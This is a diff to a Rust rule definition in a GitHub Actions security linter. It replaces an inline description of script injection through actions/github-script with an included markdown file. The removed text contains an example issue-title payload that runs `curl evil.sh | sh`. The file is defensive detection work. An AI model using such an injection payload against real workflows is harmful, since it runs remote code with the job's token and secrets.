@@ -12,19 +12,7 @@ pub const META: RuleMeta = RuleMeta {
     title: "GitHub Script injection: attacker-controlled expression expanded into JavaScript",
     default_severity: Severity::High,
     default_confidence: Confidence::High,
-    description: "`actions/github-script` evaluates its `script:` input as JavaScript with an \
-        authenticated Octokit client. GitHub expands `${{ … }}` in that input *before* the \
-        code runs, so an issue title such as `` `; await exec.exec('curl evil.sh | sh'); ` `` \
-        becomes code running with the job's token and secrets. Wrapping the expression in \
-        quotes or a template literal does not help: the attacker closes them.\n\n\
-        Severity: High for text anyone can write (issue, pull request, comment, review and \
-        discussion text, branch names, commit messages, `toJSON(github.event)`); Medium for \
-        `inputs.*`, `github.event.inputs.*` and `client_payload`, which only whoever can \
-        trigger the workflow chooses (boolean, number and choice inputs are not reported). \
-        Confidence is Low when no trigger of the workflow fills the context. Comparisons and \
-        `contains`/`startsWith`/`endsWith` results are booleans and are not reported. \
-        Reading the value inside the script (`context.payload.issue.title`) or through \
-        `process.env` is safe and not reported. Steps of composite actions are checked too.",
+    description: include_str!("fg017_github_script_injection.md"),
     remediation: "Read event data inside the script, where it is a JavaScript string and \
         never code: `const title = context.payload.issue.title;`. For inputs, pass them \
         through `env:` and read `process.env.TITLE`.",
